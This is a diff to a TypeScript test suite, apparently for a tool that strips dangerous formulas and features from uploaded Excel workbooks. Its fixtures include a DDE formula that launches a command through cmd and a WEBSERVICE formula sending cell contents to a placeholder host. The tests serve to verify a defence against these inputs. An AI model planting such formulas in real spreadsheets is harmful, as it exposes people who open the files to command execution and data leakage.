@@ -310,6 +310,35 @@ describe('the office’s own workbook', () => {
     expect(columns?.seq).toBe(enrolmentHeads.indexOf('seqno.'))
   })
 
+  test('loses formulas that ask a service, a program or a file, which are named', async () => {
+    const shared = (at: string, text: string) =>
+      `<c r="${at}"><f t="shared" si="0" ref="A1:A2">${text}</f><v>old</v></c>`
+    const rows = [
+      row(1, [
+        shared('A1', '_xlfn.WEBSERVICE("http://a.example/?"&amp;C1)'),
+        '<c r="B1"><f>SUM(C1:C2)</f></c>',
+      ]),
+      row(2, [shared('A2', ''), '<c r="B2" t="str"><f>cmd|\'/c calc\'!A0</f><v>0</v></c>']),
+    ]
+    const { bytes, removed } = await readBase(
+      await zip({
+        ...parts,
+        'xl/worksheets/sheet5.xml': sheet(rows.join('')),
+        'xl/workbook.xml': (parts['xl/workbook.xml'] ?? '').replace(
+          '<definedName name="Inside">',
+          '<definedName name="Shares">RTD("prog",,"x")</definedName><definedName name="Inside">',
+        ),
+      }),
+    )
+    expect(removed).toContain('4 formulas with DDE, RTD, WEBSERVICE')
+    const texts = await textsOf(bytes)
+    expect(texts['xl/workbook.xml']).not.toContain('Shares')
+    const own = texts['xl/worksheets/sheet5.xml'] ?? ''
+    expect(own.match(/<f>.*?<\/f>/g)).toEqual(['<f>SUM(C1:C2)</f>'])
+    // What they last said stays, as a value.
+    expect(own).toContain('<c r="A2"><v>old</v></c>')
+  })
+
   const unfit: Record<string, [Readonly<Record<string, string>>, string]> = {
     'an .xlsm file': [
       {
@@ -382,6 +411,45 @@ describe('the office’s own workbook', () => {
         ),
       },
       'rules with links to other files',
+    ],
+    'a rule that asks a service': [
+      {
+        'xl/worksheets/sheet5.xml': sheet(
+          '',
+          '<conditionalFormatting sqref="A1"><cfRule><formula>_xlfn.WEBSERVICE(A1)=1</formula></cfRule></conditionalFormatting>',
+        ),
+      },
+      'This workbook has charts or rules with WEBSERVICE.',
+    ],
+    'a scale of colours that asks a program': [
+      {
+        'xl/worksheets/sheet5.xml': sheet(
+          '',
+          '<conditionalFormatting sqref="A1"><cfRule><colorScale><cfvo type="formula" val="RTD(&quot;a&quot;)"/></colorScale></cfRule></conditionalFormatting>',
+        ),
+      },
+      'This workbook has charts or rules with RTD.',
+    ],
+    'a chart that asks a program': [
+      { 'xl/charts/chart1.xml': '<c:chart xmlns:c="x"><c:f>app|topic!item</c:f></c:chart>' },
+      'This workbook has charts or rules with DDE.',
+    ],
+    'an add-in': [
+      {
+        '_rels/.rels': relations({
+          rId1: `Type="${office}/officeDocument" Target="xl/workbook.xml"`,
+          rId2: 'Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="xl/webextensions/taskpanes.xml"',
+        }),
+      },
+      'This workbook has add-ins.',
+    ],
+    'a picture that a function got from the web': [
+      {
+        'xl/worksheets/_rels/sheet5.xml.rels': relations({
+          rId1: 'Type="http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage" Target="../richData/rdRichValueWebImage.xml"',
+        }),
+      },
+      'This workbook has pictures from the web.',
     ],
     'a summary of 9 MB': [
       {
